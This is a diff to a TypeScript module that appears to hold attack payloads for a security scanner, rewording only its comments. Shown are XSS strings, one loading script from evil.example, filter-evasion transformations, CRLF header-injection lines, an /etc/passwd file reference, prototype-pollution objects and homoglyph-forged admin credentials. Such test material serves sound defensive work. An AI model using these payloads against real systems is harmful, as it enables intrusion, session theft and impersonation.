@@ -1,11 +1,11 @@
-/** Payloads of attacks, each with a mark by which it is recognised in replies, and ways to disguise them. */
+/** Attack payloads, each with a mark by which it is recognised in replies, and transformations that disguise them. */
 
-/** Stands in every payload, and in no text of the service. */
+/** Part of every payload, and of no text of the service. */
 export const MARK = 'zqx7';
 
 const RUN = `alert('${MARK}')`;
 
-/** Scripts in every place where HTML runs one (after the OWASP XSS filter evasion cheat sheet). */
+/** Scripts in all places where HTML executes them (after the OWASP XSS filter evasion cheat sheet). */
 export const SCRIPTS: readonly string[] = [
   `<script>${RUN}</script>`,
   `<SCRIPT SRC=//evil.example/${MARK}.js></SCRIPT>`,
@@ -76,7 +76,7 @@ export const SCRIPTS: readonly string[] = [
   `\${${RUN}}`,
 ];
 
-/** Ways to get a word past a filter; each leaves a browser as ready to run it, or readier. */
+/** Transformations that may evade a filter, while browsers still execute the result. */
 export const DISGUISES: readonly ((payload: string) => string)[] = [
   payload => payload,
   payload => payload.replace(/<(\w)/g, '<\0$1'),
@@ -92,7 +92,7 @@ export const DISGUISES: readonly ((payload: string) => string)[] = [
   payload => `${payload.slice(0, 5)}<!-- -->${payload.slice(5)}`,
 ];
 
-/** Lines that would begin a header, a log line or an answer of their own. */
+/** Line breaks that would inject a header, a log line or an answer. */
 export const SPLITTERS: readonly string[] = [
   `x\r\nSet-Cookie: ${MARK}=1`,
   `x\nX-${MARK}: 1`,
@@ -124,7 +124,7 @@ export const KEYS: readonly string[] = [
   `file:/etc/passwd?${MARK}`,
 ];
 
-/** Members that reach for the prototype of what they are copied into. */
+/** Members for prototype pollution. */
 export const POLLUTERS: readonly string[] = [
   `{"__proto__":{"polluted":"${MARK}"}}`,
   `{"constructor":{"prototype":{"polluted":"${MARK}"}}}`,
@@ -135,7 +135,7 @@ export const POLLUTERS: readonly string[] = [
 
 const basic = (text: string): string => `Basic ${Buffer.from(text).toString('base64')}`;
 
-/** Credentials that look like somebody's, or like nothing at all. */
+/** Forged and malformed credentials. */
 export const CREDENTIALS: readonly string[] = [
   basic('аdmin:the-password-of-admin'),
   basic('ａｄｍｉｎ:the-password-of-admin'),
